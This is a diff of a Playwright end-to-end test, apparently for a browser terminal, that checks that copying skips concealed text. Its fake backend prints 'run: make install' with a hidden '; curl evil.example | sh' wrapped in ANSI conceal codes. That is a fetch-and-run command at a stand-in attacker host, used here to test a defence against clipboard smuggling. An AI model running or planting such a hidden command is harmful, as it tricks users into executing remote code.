@@ -3,37 +3,27 @@
  * and the browser's own copy all skip hidden cells. Real Chromium, real clipboard.
  */
 import assert from 'node:assert/strict';
-import { after, before, test } from 'node:test';
+import { test } from 'node:test';
 import type { Page } from 'playwright-core';
-import { type FakeBackend, startBackend } from '../helpers/backends.ts';
-import {
-  launchBrowser,
-  startServer,
-  type TestBrowser,
-  type TestServer,
-  waitForScreen,
-} from './helpers.ts';
+import { startBackend } from '../helpers/backends.ts';
+import { e2eSuite, waitForScreen } from './helpers.ts';
 
-let server: TestServer;
-let browser: TestBrowser;
-let host: FakeBackend;
-
-before(async () => {
-  host = await startBackend((s) =>
-    s.write('\r\nrun: make install\x1b[8m; curl evil.example | sh\x1b[0m  # safe\r\nnext line\r\n'),
-  );
-  server = await startServer({
-    hosts: [{ id: 'h', name: 'Hidden', target: host.target, input: 'raw' }],
-  });
-  browser = await launchBrowser();
-  await browser.context.grantPermissions(['clipboard-read', 'clipboard-write']);
-});
-
-after(async () => {
-  await browser?.close();
-  await server?.close();
-  await host?.close();
-});
+const suite = e2eSuite(
+  async (keep) => {
+    const host = keep(
+      await startBackend((s) =>
+        s.write(
+          '\r\nrun: make install\x1b[8m; curl evil.example | sh\x1b[0m  # safe\r\nnext line\r\n',
+        ),
+      ),
+    );
+    return { hosts: [{ id: 'h', name: 'Hidden', target: host.target, input: 'raw' }] };
+  },
+  {
+    ready: ({ browser: chromium }) =>
+      chromium.context.grantPermissions(['clipboard-read', 'clipboard-write']),
+  },
+);
 
 /** Drags across the whole terminal row that contains `text`. */
 async function selectRow(page: Page, text: string): Promise<void> {
@@ -57,8 +47,8 @@ const clipboard = (page: Page): Promise<string> =>
   page.evaluate(() => navigator.clipboard.readText());
 
 test('copy on select, Ctrl+Shift+C and the browser copy leave concealed text out', async () => {
-  const page = await browser.context.newPage();
-  await page.goto(`${server.url}/?host=h`);
+  const page = await suite.browser.context.newPage();
+  await page.goto(`${suite.server.url}/?host=h`);
   await waitForScreen(page, 'next line');
   await page.evaluate(() => navigator.clipboard.writeText('sentinel'));
   await selectRow(page, 'run: make install');
